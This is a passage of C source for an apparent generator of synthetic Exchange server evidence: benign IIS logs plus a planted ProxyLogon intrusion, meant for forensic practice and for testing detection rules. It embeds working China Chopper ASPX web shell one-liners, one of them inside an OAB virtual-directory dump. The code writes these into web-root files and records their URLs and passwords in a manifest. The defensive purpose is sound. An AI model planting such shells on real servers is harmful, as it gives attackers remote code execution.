				G.keys = xrealloc(G.keys, G.kcap * sizeof *G.keys);
				G.keys2 = xrealloc(G.keys2, G.kcap * sizeof *G.keys2);
			}
			uint64_t off = rbelow(&hr, (uint32_t)MS_HOUR);
			unsigned used = 0;
			for (unsigned j = 0; j < len && off < (uint64_t)MS_HOUR; j++) {
				G.keys[n++] = off << KEY_SHIFT | (uint64_t)nsess << 8 | j;
				used++;
				off += rrange(&hr, SESS[se->type].gap_lo, SESS[se->type].gap_hi);
			}
			se->len = (uint16_t)used;
			nsess++;
		}
		sort_keys(G.keys, G.keys2, n);
		size_t i = 0;
		for (;;) {
			int64_t tb = i < n ? hs + (int64_t)(G.keys[i] >> KEY_SHIFT) : INT64_MAX;
			int64_t tsch = si < ns && sc[si].t < hs + MS_HOUR ? sc[si].t : INT64_MAX;
			if (tb == INT64_MAX && tsch == INT64_MAX)
				break;
			if (tsch <= tb) {
				Sched *s = &sc[si++];
				Rng er;
				rng_seed(&er, mix3(G.seed, (uint64_t)s->t, 0x5c4ed));
				switch (s->kind) {
				case SK_ATTACK:
					emit_attack(&ATK[s->arg]);
					break;
				case SK_RESTART:
					restart_iis(s->t, s->arg);
					break;
				case SK_OAB:
					oab_run(s->t, &er);
					break;
				case SK_RPS:
					rps_event(s->t, &er, false, s->arg);
					break;
				default:
					rps_event(s->t, &er, true, 0);
					break;
				}
				continue;
			}
			const Sess *se = (const Sess *)G.sess + ((G.keys[i] >> 8) & 0xFFFFFFFFULL);
			unsigned seq = (unsigned)(G.keys[i] & 0xFF);
			Rng er;
			rng_seed(&er, mix3(se->seed, seq, 0xE7));
			req_init(q, &er, tb);
			if (se->bg)
				gen_background(q, &er);
			else
				gen_human(q, &er, se, seq);
			emit_req(q);
			i++;
		}
		close_hour_files();
	}
	free(q);
	out_close(&G.o_iis1);
	out_close(&G.o_iis2);
	out_close(&G.o_ecp);
	out_close(&G.o_oab);
	G.iis1_fields = 0;
}

/* ------------------------------------------------------------------------ */
/* Web root, marker files and collector artefacts                           */
/* ------------------------------------------------------------------------ */

static int write_text(const char *logical, const char *text)
{
	/* Text files get Windows line ends. */
	size_t n = strlen(text), k = 0;
	char *buf = xrealloc(NULL, 2 * n + 1);
	for (size_t i = 0; i < n; i++) {
		if (text[i] == '\n')
			buf[k++] = '\r';
		buf[k++] = text[i];
	}
	int rec = write_whole(logical, true, buf, k);
	free(buf);
	return rec;
}

static const char IISSTART[] =
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n"
    "<html xmlns=\"http://www.w3.org/1999/xhtml\">\n<head>\n"
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\" />\n"
    "<title>IIS Windows Server</title>\n<style type=\"text/css\">\n<!--\n"
    "body {\n\tcolor:#000000;\n\tbackground-color:#0072C6;\n\tmargin:0;\n}\n\n"
    "#container {\n\tmargin-left:auto;\n\tmargin-right:auto;\n\ttext-align:center;\n\t}\n\n"
    "a img {\n\tborder:none;\n}\n\n-->\n</style>\n</head>\n<body>\n<div id=\"container\">\n"
    "<a href=\"http://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409\"><img src=\"iisstart.png\" "
    "alt=\"IIS\" width=\"960\" height=\"600\" /></a>\n</div>\n</body>\n</html>";

static const char OWA_WEBCONFIG[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n  <system.web>\n"
    "    <compilation defaultLanguage=\"c#\" debug=\"false\" targetFramework=\"4.5\" />\n"
    "    <httpRuntime maxRequestLength=\"35000\" requestValidationMode=\"2.0\" />\n"
    "    <customErrors mode=\"On\" defaultRedirect=\"auth/errorFE.aspx\" />\n"
    "    <authentication mode=\"Windows\" />\n  </system.web>\n  <system.webServer>\n"
    "    <modules>\n"
    "      <add name=\"FbaModule\" type=\"Microsoft.Exchange.HttpProxy.FbaModule, "
    "Microsoft.Exchange.FrontEndHttpProxy, Version=15.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\" />\n"
    "    </modules>\n"
    "    <handlers>\n"
    "      <add name=\"ProxyRequestHandler\" path=\"*\" verb=\"*\" "
    "type=\"Microsoft.Exchange.HttpProxy.ProxyRequestHandler, Microsoft.Exchange.FrontEndHttpProxy\" />\n"
    "    </handlers>\n  </system.webServer>\n</configuration>";

static const char LOGON_CSS[] =
    "/* Copyright (c) Microsoft Corporation.  All rights reserved. */\n"
    "body { margin: 0px; font-family: \"Segoe UI\", \"Segoe\", Tahoma, Helvetica, Arial, sans-serif; }\n"
    ".mouse .sidebar { position: absolute; top: 0px; bottom: 0px; left: 0px; width: 332px; background-color: #0072C6; }\n"
    ".mouse .logonDiv { position: absolute; top: 100px; left: 390px; width: 500px; }\n"
    ".signInInputLabel { color: #666666; font-size: 14px; }\n"
    ".signinbutton { background-color: #0072C6; color: #FFFFFF; cursor: pointer; }\n";

static const char CHOPPER[] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"" SHELL2_PW "\"],\"unsafe\");%>";

static const char OAB_DUMP[] =
    "Name                            : OAB (Default Web Site)\n"
    "PollInterval                    : 480\n"
    "OfflineAddressBooks             : \n"
    "RequireSSL                      : False\n"
    "BasicAuthentication             : False\n"
    "WindowsAuthentication           : True\n"
    "OAuthAuthentication             : False\n"
    "MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB\n"
    "Path                            : " XROOT_WIN "FrontEnd\\HttpProxy\\OAB\n"
    "ExtendedProtectionTokenChecking : None\n"
    "ExtendedProtectionFlags         : \n"
    "ExtendedProtectionSPNList       : \n"
    "AdminDisplayVersion             : Version 15.1 (Build 2176.2)\n"
    "Server                          : EXCH01\n"
    "InternalUrl                     : https://exch01.contoso.local/OAB\n"
    "InternalAuthenticationMethods   : WindowsIntegrated\n"
    "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()"
    "{eval(Request[\"" SHELL1_PW "\"],\"unsafe\");}</script>\n"
    "ExternalAuthenticationMethods   : WindowsIntegrated\n"
    "AdminDisplayName                : \n"
    "ExchangeVersion                 : 0.10 (14.0.100.0)\n"
    "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,"
    "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,"
    "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local\n"
    "Identity                        : EXCH01\\OAB (Default Web Site)\n"
    "Guid                            : " OABVD_GUID "\n"
    "ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory\n"
    "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}\n"
    "WhenChanged                     : 3/3/2021 6:49:53 AM\n"
    "WhenCreated                     : 10/14/2019 3:22:10 PM\n"
    "WhenChangedUTC                  : 3/3/2021 6:49:53 AM\n"
    "WhenCreatedUTC                  : 10/14/2019 3:22:10 PM\n"
    "OrganizationId                  : \n"
    "Id                              : EXCH01\\OAB (Default Web Site)\n"
    "OriginatingServer               : DC01.contoso.local\n"
    "IsValid                         : True\n"
    "ObjectState                     : Changed\n";

/* Files the intrusion left, with the time each was written (the matching log lines are
 * in the timeline: the OAB reset at 06:59:20, the POST that wrote the China Chopper
 * page at 07:05:33, the MiniDump at 07:15:05, the 7-Zip run at 07:21:48). */
static struct {
	int rec;
	int64_t t;
	const char *stage, *desc, *rule; /* rule: the exhunt check expected to name it */
} G_files[8];
static size_t G_nfiles;

static void planted(int rec, int64_t t, const char *stage, const char *desc, const char *rule)
{
	stamp(rec, t);
	G_files[G_nfiles].rec = rec;
	G_files[G_nfiles].t = t;
	G_files[G_nfiles].stage = stage;
	G_files[G_nfiles].desc = desc;
	G_files[G_nfiles].rule = rule;
	G_nfiles++;
}

static void write_webroot(void)
{
	int rec;
	stamp(write_text("C/inetpub/wwwroot/iisstart.htm", IISSTART), ms_at(2019, 10, 14, 14, 51, 2, 0));
	char rel[2048], full[4096];
	disk_rel(rel, sizeof rel, "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319");
	full_path(full, sizeof full, rel);
	mkdirs_for(full, true);
	rec = write_whole("C/inetpub/wwwroot/aspnet_client/system_web/" SHELL2 ".aspx", true, CHOPPER, sizeof CHOPPER - 1);
	planted(rec, ms_at(2021, 3, 3, 7, 5, 33, 0), "webshell-drop", "China Chopper page written through the OAB shell",
	        "exh_chopper_eval_request");
	rec = write_text(XROOT "FrontEnd/HttpProxy/owa/auth/" SHELL1 ".aspx", OAB_DUMP);
	planted(rec, ms_at(2021, 3, 3, 6, 59, 20, 0), "webshell-drop",
	        "CVE-2021-27065: OAB virtual directory dump with a China Chopper script in ExternalUrl",
	        "exh_oab_vdir_dump_script");
	/* the security update rewrote the vdir configuration; the stylesheet came with the CU */
	stamp(write_text(XROOT "FrontEnd/HttpProxy/owa/web.config", OWA_WEBCONFIG), ms_at(2021, 3, 5, 21, 41, 12, 0));
	stamp(write_text(XROOT "FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources/logon.css", LOGON_CSS),
	      ms_at(2020, 12, 15, 19, 2, 48, 0));
	/* Inert markers: archive and dump headers followed by random bytes. */
	Rng r;
	rng_seed(&r, 0x7A7A7A);
	unsigned char b[512];
	static const unsigned char magic7z[] = {0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04};
	memcpy(b, magic7z, sizeof magic7z);
	for (size_t i = sizeof magic7z; i < 96; i++)
		b[i] = (unsigned char)rnext(&r);
	rec = write_whole("C/ProgramData/VSPerfMon/a.7z", true, b, 96);
	planted(rec, ms_at(2021, 3, 3, 7, 21, 50, 0), "collection", "7-Zip archive of the LSASS dump in VSPerfMon",
	        "file-vsperfmon");
	static const unsigned char mdmp[] = {'M', 'D', 'M', 'P', 0x93, 0xA7, 0x00, 0x00};
	memcpy(b, mdmp, sizeof mdmp);
	for (size_t i = sizeof mdmp; i < 384; i++)
		b[i] = (unsigned char)rnext(&r);
	/* a minidump's module list names the process image in UTF-16 */
	static const char image[] = "C:\\Windows\\System32\\lsass.exe";
	for (size_t i = 0; i < sizeof image - 1; i++) {
		b[96 + 2 * i] = (unsigned char)image[i];
		b[96 + 2 * i + 1] = 0;
	}
	rec = write_whole("C/Windows/Temp/lsass.dmp", true, b, 384);
	planted(rec, ms_at(2021, 3, 3, 7, 15, 7, 0), "credential-access", "LSASS minidump made with comsvcs.dll MiniDump",
	        "exh_lsass_minidump");
}

static void write_collector_files(void)
{
	int64_t cday = G.start_day + G.days_done; /* collected the morning after the last day */
	int y;
	unsigned m, d;
	civil_from_days(cday, &y, &m, &d);
	uint64_t files = 0, bytes = 0;
	for (size_t i = 0; i < G.nrecs; i++) {
		files++;
		bytes += G.recs[i].bytes;
	}
	char buf[4096];
	if (G.layout == L_KAPE) {
		char name[64];
		snprintf(name, sizeof name, "%04d-%02u-%02uT101500_ConsoleLog.txt", y, m, d);
		int k = snprintf(
		    buf, sizeof buf,
		    "KAPE version 1.0.0.3, Author: Eric Zimmerman, Contact: https://www.kroll.com/kape (kape@kroll.com)\r\n"
		    "\r\n"
		    "KAPE directory: C:\\Tools\\KAPE\r\n"
		    "Command line:   --tsource C: --tdest E:\\Collections\\EXCH01 --target Exchange,IISLogFiles,WebServers --vss false\r\n"
		    "\r\n"
		    "System info: Machine name: EXCH01, 64-bit: True, User: ir-admin OS: Windows2016Server (10.0.14393)\r\n"
		    "\r\n"
		    "Using Target operations\r\n"
		    "Found 3 targets. Expanding targets to file list...\r\n"
		    "Target 'Exchange' with Id '5ecb8ae4-0ef0-4b08-a6ba-2c3ba6a1b3c3' already processed. Skipping!\r\n"
		    "Found %" PRIu64 " files in %.3f seconds. Beginning copy...\r\n"
		    "Copied %" PRIu64 " (%" PRIu64 " bytes) out of %" PRIu64 " files in %.4f seconds.\r\n"
		    "\r\n"
		    "Total execution time: %.4f seconds\r\n",
		    files, 1.0 + (double)(files % 997) / 1000.0, files, bytes, files, 4.0 + (double)(bytes % 9973) / 1000.0,
		    6.0 + (double)(bytes % 9973) / 1000.0);
		write_whole(name, false, buf, (size_t)k);
	} else if (G.layout == L_VELO) {
		int64_t us = (cday * MS_DAY + 10 * MS_HOUR + 15 * 60000) * 1000;
		int k = snprintf(buf, sizeof buf,
		                 "{\"client_id\":\"C.%016" PRIx64 "\",\"session_id\":\"F.C%013" PRIX64 "\","
		                 "\"request\":{\"artifacts\":[\"Windows.KapeFiles.Targets\"],\"creator\":\"ir-admin\"},"
		                 "\"create_time\":%" PRId64 ",\"active_time\":%" PRId64 ",\"hostname\":\"EXCH01\","
		                 "\"artifacts_with_results\":[\"Windows.KapeFiles.Targets/Uploads\"],"
		                 "\"total_uploaded_files\":%" PRIu64 ",\"total_uploaded_bytes\":%" PRIu64
		                 ",\"state\":\"FINISHED\"}\n",
		                 mix3(G.seed, 1, 2), (uint64_t)(mix3(G.seed, 3, 4) & 0xFFFFFFFFFFFFFULL), us, (int64_t)(us + 183000000), files,
		                 bytes);
		write_whole("collection_context.json", false, buf, (size_t)k);
	}
}

/* ------------------------------------------------------------------------ */
/* Manifest                                                                  */
/* ------------------------------------------------------------------------ */

static void json_str(FILE *f, const char *s)
{
	fputc('"', f);
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;
		if (c == '"' || c == '\\')
			fprintf(f, "\\%c", c);
		else if (c < 0x20)
			fprintf(f, "\\u%04x", c);
		else
			fputc(c, f);
	}
	fputc('"', f);
}
static void json_time(FILE *f, int64_t t)
{
	if (t < 0) {
		fputs("null", f);
		return;
	}
	char b[32];
	*p_iso(b, t) = 0;
	json_str(f, b);
}

static void write_manifest(void)
{
	FILE *f = fopen(G.manifest, "wb");
	if (!f)
		die_io("cannot create", G.manifest);
	char sd[16];
	fmt_compact(sd, sizeof sd, G.start_day, false);
	fprintf(f, "{\n  \"generator\": \"exgen\",\n  \"seed\": %" PRIu64 ",\n  \"start\": \"%.4s-%.2s-%.2s\",\n", G.seed,
	        sd, sd + 4, sd + 6);
	fprintf(f, "  \"days\": %u,\n  \"rate\": %" PRIu64 ",\n  \"layout\": \"%s\",\n  \"only\": \"%s\",\n", G.days_done,
	        G.rate, LAYOUT[G.layout], ONLY[G.only]);
	fprintf(f, "  \"server\": {\"name\": \"EXCH01\", \"fqdn\": \"" HOST_FQDN "\", \"public_name\": \"" HOST_PUB
	           "\", \"ip\": \"" SRV_IP "\", \"domain\": \"CONTOSO\", \"build_before_patch\": \"15.1.2176.2\", "
	           "\"build_after_patch\": \"15.1.2176.9\", \"patched_at\": \"2021-03-05T21:40:00.000Z\"},\n");
	fputs("  \"logs\": [", f);
	bool first = true;
	for (size_t i = 0; i < G.nrecs; i++) {
		const FileRec *r = &G.recs[i];
		if (r->kind == K_OTHER)
			continue;
		fputs(first ? "\n    {\"path\": " : ",\n    {\"path\": ", f);
		first = false;
		json_str(f, r->path);
		fprintf(f, ", \"kind\": \"%s\", \"bytes\": %" PRIu64 ", \"data_lines\": %" PRIu64 ", \"header_lines\": %" PRIu64
		           ", \"first\": ",
		        KIND_NAME[r->kind], r->bytes, r->data, r->hdr);
		json_time(f, r->first);
		fputs(", \"last\": ", f);
		json_time(f, r->last);
		fputc('}', f);
	}
	fputs("\n  ],\n  \"other_files\": [", f);
	first = true;
	for (size_t i = 0; i < G.nrecs; i++) {
		const FileRec *r = &G.recs[i];
		if (r->kind != K_OTHER)
			continue;
		fputs(first ? "\n    {\"path\": " : ",\n    {\"path\": ", f);
		first = false;
		json_str(f, r->path);
		fprintf(f, ", \"bytes\": %" PRIu64, r->bytes);
		if (r->mtime >= 0) {
			fputs(", \"mtime\": ", f);
			json_time(f, r->mtime);
		}
		fputs("}", f);
	}
	fputs("\n  ],\n  \"totals\": {", f);
	for (int k = 0; k < K_N; k++)
		fprintf(f, "%s\"%s\": %" PRIu64, k ? ", " : "", KIND_NAME[k], G.kbytes[k]);
	fputs("},\n  \"attack\": {\n", f);
	fputs("    \"actors\": [\"" ACTOR_A "\", \"" ACTOR_B "\"],\n", f);
	fputs("    \"webshells\": [\n      {\"path\": ", f);
	json_str(f, XROOT "FrontEnd/HttpProxy/owa/auth/" SHELL1 ".aspx");
	fputs(", \"url\": \"/owa/auth/" SHELL1 ".aspx\", \"password\": \"" SHELL1_PW "\"},\n      {\"path\": ", f);
	json_str(f, "C/inetpub/wwwroot/aspnet_client/system_web/" SHELL2 ".aspx");
	fputs(", \"url\": \"/aspnet_client/system_web/" SHELL2 ".aspx\", \"password\": \"" SHELL2_PW "\"}\n    ],\n", f);
	fputs("    \"files\": [", f);
	for (size_t i = 0; i < G_nfiles; i++) {
		fputs(i ? ",\n      {\"path\": " : "\n      {\"path\": ", f);
		json_str(f, G.recs[G_files[i].rec].path);
		fputs(", \"written\": ", f);
		json_time(f, G_files[i].t);
		fputs(", \"stage\": ", f);
		json_str(f, G_files[i].stage);
		fputs(", \"description\": ", f);
		json_str(f, G_files[i].desc);
		fputs(", \"rule\": ", f);
		json_str(f, G_files[i].rule);
		fputs("}", f);
	}
	fputs("\n    ],\n", f);
	fputs("    \"timeline\": [", f);
	for (size_t i = 0; i < G.ntl; i++) {
		const TlEntry *e = &G.tl[i];
		fputs(i ? ",\n      {\"time\": " : "\n      {\"time\": ", f);
		json_time(f, e->t);
		fputs(", \"stage\": ", f);
		json_str(f, e->stage);
		fputs(", \"actor\": ", f);
		json_str(f, e->actor);
		fputs(", \"description\": ", f);
		json_str(f, e->desc);
		fputs(", \"file\": ", f);
		json_str(f, G.recs[e->rec].path);
		fprintf(f, ", \"line\": %" PRIu64 "}", e->line);
	}
	fputs("\n    ]\n  }\n}\n", f);
	if (ferror(f) || fclose(f) != 0)
		die_io("write error on", G.manifest);
}

/* ------------------------------------------------------------------------ */
/* Command line                                                              */
/* ------------------------------------------------------------------------ */

static void usage(FILE *f)
{
	fputs("Usage: exgen [options] OUTDIR\n"
	      "Write a synthetic Exchange 2016 evidence collection (benign traffic plus a planted\n"
	      "March 2021 ProxyLogon intrusion) below OUTDIR.  Deterministic for a given seed.\n"
	      "\n"
	      "  --seed N              PRNG seed for the benign traffic (default 1)\n"
	      "  --start YYYY-MM-DD    first day, UTC (default 2021-02-15)\n"
	      "  --days N              number of days (default 28)\n"
	      "  --rate N              benign requests per hour at the busiest hour (default 4)\n"
	      "  --target-bytes N[K|M|G]  instead of --days, add days until the W3SVC1 logs (and,\n"
	      "                        unless --only iis, the HttpProxy logs) reach N bytes\n"
	      "  --only iis|httpproxy|all  which logs to write (default all; iis = W3SVC1+W3SVC2)\n"
	      "  --layout tree|kape|velociraptor  directory layout (default tree)\n"
	      "  --manifest FILE       write a JSON manifest of files and the attack timeline\n"
	      "  --force               write into a non-empty OUTDIR\n"
	      "  --help                show this help\n"
	      "\n"
	      "Exit status: 0 ok, 1 I/O error, 2 bad usage.\n",
	      f);
}

static bool parse_u64(const char *s, uint64_t *out, uint64_t max)
{
	if (!s || !*s || *s < '0' || *s > '9')
		return false;
	errno = 0;
	char *end;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno || *end || v > max)
		return false;
	*out = v;
	return true;
}

static bool parse_size(const char *s, uint64_t *out)
{
	if (!s || !*s || *s < '0' || *s > '9')
		return false;
	errno = 0;
	char *end;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno)
		return false;
	uint64_t mul = 1;
	if (*end == 'K' || *end == 'k')
		mul = 1024ULL;
	else if (*end == 'M' || *end == 'm')
		mul = 1024ULL * 1024;
	else if (*end == 'G' || *end == 'g')
		mul = 1024ULL * 1024 * 1024;
	else if (*end)
		return false;
	if (mul > 1 && end[1])
		return false;
	if (v == 0 || v > UINT64_MAX / mul / 2)
		return false;
	*out = v * mul;
	return true;
}

static bool parse_date(const char *s, int64_t *day)
{
	if (strlen(s) != 10 || s[4] != '-' || s[7] != '-')
		return false;
	for (int i = 0; i < 10; i++)
		if (i != 4 && i != 7 && (s[i] < '0' || s[i] > '9'))
			return false;
	int y = (s[0] - '0') * 1000 + (s[1] - '0') * 100 + (s[2] - '0') * 10 + (s[3] - '0');
	unsigned m = (unsigned)((s[5] - '0') * 10 + (s[6] - '0'));
	unsigned d = (unsigned)((s[8] - '0') * 10 + (s[9] - '0'));
	static const unsigned mdays[] = {31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
	if (y < 1980 || y > 9000 || m < 1 || m > 12 || d < 1 || d > mdays[m - 1])
		return false;
	bool leap = (y % 4 == 0 && y % 100 != 0) || y % 400 == 0;
	if (m == 2 && d == 29 && !leap)
		return false;
	*day = days_from_civil(y, m, d);
	return true;
}

static bool dir_nonempty(const char *path, bool *exists)
{
	DIR *d = opendir(path);
	if (!d) {
		*exists = errno != ENOENT;
		if (errno != ENOENT)
			die_io("cannot open directory", path);
		return false;
	}
	*exists = true;
	bool nonempty = false;
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) {
			nonempty = true;
			break;
		}
	}
	closedir(d);
	return nonempty;
}

static void parse_args(int argc, char **argv)
{
	G.seed = 1;
	G.rate = 4;
	G.days = 28;
	G.start_day = days_from_civil(2021, 2, 15);
	bool days_set = false;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
		const char *val = NULL;
		const char *eq = NULL;
		if (strncmp(a, "--", 2) == 0 && (eq = strchr(a, '=')) != NULL)
			val = eq + 1;
		char name[32];
		size_t nl = eq ? (size_t)(eq - a) : strlen(a);
		if (nl >= sizeof name)
			nl = sizeof name - 1;
		memcpy(name, a, nl);
		name[nl] = 0;
		bool takes = !strcmp(name, "--seed") || !strcmp(name, "--start") || !strcmp(name, "--days") ||
		             !strcmp(name, "--rate") || !strcmp(name, "--target-bytes") || !strcmp(name, "--only") ||
		             !strcmp(name, "--layout") || !strcmp(name, "--manifest");
		if (takes && !val) {
			if (i + 1 >= argc)
				die_usage("missing value for", name);
			val = argv[++i];
		}
		uint64_t v;
		if (!strcmp(name, "--help") || !strcmp(name, "-h")) {
			usage(stdout);
			exit(0);
		} else if (!strcmp(name, "--force")) {
			G.force = true;
		} else if (!strcmp(name, "--seed")) {
			if (!parse_u64(val, &G.seed, UINT64_MAX))
				die_usage("bad --seed", val);
		} else if (!strcmp(name, "--start")) {
			if (!parse_date(val, &G.start_day))
				die_usage("bad --start (want YYYY-MM-DD)", val);
		} else if (!strcmp(name, "--days")) {
			if (!parse_u64(val, &v, MAX_DAYS) || v == 0)
				die_usage("bad --days (1..3650)", val);
			G.days = (uint32_t)v;
			days_set = true;
		} else if (!strcmp(name, "--rate")) {
			if (!parse_u64(val, &G.rate, 10000000) || G.rate == 0)
				die_usage("bad --rate (1..10000000)", val);
		} else if (!strcmp(name, "--target-bytes")) {
			if (!parse_size(val, &G.target))
				die_usage("bad --target-bytes", val);
			G.target_set = true;
		} else if (!strcmp(name, "--only")) {
			int k = pick(val, ONLY);
			if (k < 0)
				die_usage("bad --only (iis|httpproxy|all)", val);
			G.only = k;
		} else if (!strcmp(name, "--layout")) {
			int k = pick(val, LAYOUT);
			if (k < 0)
				die_usage("bad --layout (tree|kape|velociraptor)", val);
			G.layout = k;
		} else if (!strcmp(name, "--manifest")) {
			if (!*val)
				die_usage("empty --manifest", NULL);
			G.manifest = val;
		} else if (a[0] == '-' && a[1]) {
			die_usage("unknown option", a);
		} else if (G.outdir) {
			die_usage("more than one OUTDIR", a);
		} else {
			G.outdir = a;
		}
	}
	if (!G.outdir)
		die_usage("missing OUTDIR", NULL);
	if (days_set && G.target_set)
		die_usage("--days and --target-bytes exclude each other", NULL);
	if (!*G.outdir)
		die_usage("empty OUTDIR", NULL);
}

int main(int argc, char **argv)
{
	parse_args(argc, argv);
	G.want_iis = G.only != ONLY_HP;
	G.want_hp = G.only != ONLY_IIS;
	G.want_misc = G.only == ONLY_ALL;
	G.hp_gen = 1;
	G.o_iis1.rec = G.o_iis2.rec = G.o_ecp.rec = G.o_oab.rec = G.o_rps.rec = -1;
	for (int p = 0; p < P_N; p++)
		G.o_hp[p].rec = -1;

	bool exists;
	if (dir_nonempty(G.outdir, &exists) && !G.force) {
		fprintf(stderr, "exgen: %s is not empty (use --force to write into it)\n", G.outdir);
		return 2;
	}
	if (!exists)
		mkdirs_for(G.outdir, true);

	init_tables();
	init_population(G.seed);
	{
		char *p = RPS_FIELDS_LINE;
		for (int i = 0; i < RPS_NF; i++) {
			if (i)
				*p++ = ',';
			p = pz(p, RPS_FIELDS[i]);
		}
		*p = 0;
	}
	uint32_t c = 0;
	uint64_t lensum = 0;
	for (int i = 0; i < T_NHUMAN; i++) {
		HUMAN_CUM[i] = c += SESS[i].weight;
		/* OWA logon sessions (35%) are at least five requests long */
		uint64_t lo = SESS[i].len_lo, hi = SESS[i].len_hi, mean2 = lo + hi; /* twice the mean */
		if (i == T_OWA) {
			uint64_t m2 = 0;
			for (uint64_t l = lo; l <= hi; l++)
				m2 += 2 * (l < 5 ? 5 : l);
			mean2 = (350 * m2 / (hi - lo + 1) + 650 * mean2) / 1000;
		}
		lensum += SESS[i].weight * mean2;
	}
	MEAN_SESS_MILLI = lensum * 500 / c;
	for (int i = 0; i < NATK; i++)
		ATK[i].t = ms_at(2021, ATK[i].mo, ATK[i].d, ATK[i].h, ATK[i].mi, ATK[i].s, ATK[i].ms);

	/* The one day whose W3SVC1 log changes its #Fields mid-file. */
	FIELDS_DAY = G.start_day + (G.target_set ? 0 : (G.days > 9 ? 9 : G.days / 2));

	for (uint32_t d = 0;; d++) {
		if (!G.target_set && d >= G.days)
			break;
		if (G.target_set) {
			bool iis_ok = !G.want_iis || G.kbytes[K_IIS1] >= G.target;
			bool hp_ok = !G.want_hp || G.kbytes[K_HP] >= G.target;
			if (iis_ok && hp_ok)
				break;
			if (d >= MAX_DAYS) {
				fprintf(stderr, "exgen: --target-bytes not reached after %d days; raise --rate\n", MAX_DAYS);
				return 1;
			}
		}
		gen_day(G.start_day + d);
		G.days_done = d + 1;
	}
	if (G.want_misc)
		write_webroot();
	write_collector_files();
	if (G.manifest)
		write_manifest();

	uint64_t total = 0;
	for (int k = 0; k < K_N; k++)
		total += G.kbytes[k];
	printf("exgen: %u days, %zu files, %" PRIu64 " bytes (W3SVC1 %" PRIu64 ", HttpProxy %" PRIu64 "), %zu attack lines\n",
	       G.days_done, G.nrecs, total, G.kbytes[K_IIS1], G.kbytes[K_HP], G.ntl);
	return 0;
}
